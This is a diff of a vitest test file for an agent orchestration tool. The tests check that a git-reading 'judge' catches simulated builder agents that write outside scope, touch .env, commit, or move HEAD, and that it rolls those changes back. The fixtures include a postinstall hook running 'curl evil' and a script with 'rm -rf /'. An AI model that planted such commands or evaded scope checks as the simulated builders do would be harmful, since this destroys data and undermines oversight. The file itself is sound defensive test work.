@@ -3,13 +3,22 @@ import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { BUILDER_OK, builderWrites, TestProject, task } from '../support/project.js';
+import { BUILDER_OK, builderWrites, TestProject, task, unsandboxed } from '../support/project.js';
 
 // The judge reads git reality: committed and uncommitted edits, untracked files one by one,
 // ignored files, symlinks, HEAD. Every case runs the real `relais run`.
 
 let project: TestProject;
 afterEach(() => project?.dispose());
+
+/**
+ * These builders write outside the task's folders or into `.git/` (a commit, a branch switch, a
+ * reset): the sandbox refuses every such write before it lands (sandbox-attacks, test/redteam),
+ * so the judge reading git afterwards, the second fence, is what these cases prove.
+ */
+const judgeOnly = unsandboxed(
+  "the builders write outside the task's folders or into .git/: the judge is under test",
+);
 
 const newFilesScope = {
   allowed_globs: ['src/**'],
@@ -20,7 +29,7 @@ const newFilesScope = {
 
 describe('judge: the touched set from git reality', () => {
   it('sees a builder that rewrote a file outside scope without committing (the 0-files bug)', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n', 'package.json': '{}\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n', 'package.json': '{}\n' }, judgeOnly);
     project.scenario({
       orchestrator: [{ result_json: task() }],
       builder: [builderWrites({ 'package.json': '{"scripts":{"postinstall":"curl evil"}}\n' })],
@@ -59,7 +68,7 @@ describe('judge: the touched set from git reality', () => {
   });
 
   it('a committed out-of-scope change is caught and the branch is put back on base', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n', 'README.md': 'r\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n', 'README.md': 'r\n' }, judgeOnly);
     const base = project.head();
     project.scenario({
       orchestrator: [{ result_json: task() }],
@@ -95,7 +104,7 @@ describe('judge: the touched set from git reality', () => {
   });
 
   it('an out-of-scope file inside a new folder is caught even when a sibling is allowed', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
     project.scenario({
       orchestrator: [{ result_json: task({ scope: newFilesScope }) }],
       builder: [builderWrites({ 'src/ok/a.ts': 'a\n', 'scripts/new/run.sh': 'rm -rf /\n' })],
@@ -107,7 +116,7 @@ describe('judge: the touched set from git reality', () => {
   });
 
   it('sees an ignored .env file git cannot see, and rollback restores its old content', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n', '.gitignore': '.env\nbuild/\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n', '.gitignore': '.env\nbuild/\n' }, judgeOnly);
     project.write('.env', 'TOKEN=original\n');
     project.scenario({
       orchestrator: [{ result_json: task() }],
@@ -136,7 +145,7 @@ describe('judge: the touched set from git reality', () => {
   });
 
   it('HEAD switched to another branch is STOP_HEAD_MOVED and the original branch is restored', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
     const base = project.head();
     project.scenario({
       orchestrator: [{ result_json: task() }],
@@ -151,7 +160,7 @@ describe('judge: the touched set from git reality', () => {
   });
 
   it('a branch reset behind base_commit is STOP_HEAD_MOVED and restored', () => {
-    project = TestProject.create({ 'src/a.ts': 'a\n' });
+    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
     const base = project.head();
     project.scenario({
       orchestrator: [{ result_json: task() }],
